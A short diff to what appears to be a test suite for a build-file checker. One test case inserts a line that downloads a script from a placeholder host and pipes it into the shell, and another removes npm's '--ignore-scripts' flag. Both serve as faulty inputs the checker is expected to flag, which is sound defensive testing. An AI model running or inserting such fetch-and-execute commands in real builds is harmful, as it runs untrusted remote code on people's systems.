@@ -50,7 +50,7 @@ describe("a fault is found", () => {
     ],
     [
       "a pipe from the network",
-      app.replace("RUN node ../", "RUN curl -s https://example.org/x | sh && node ../"),
+      app.replace("RUN node server/", "RUN curl -s https://example.org/x | sh && node server/"),
       "RUN pipes what it fetched into a program",
     ],
     ["scripts of packages", app.replaceAll(" --ignore-scripts", ""), "npm runs packages' scripts"],
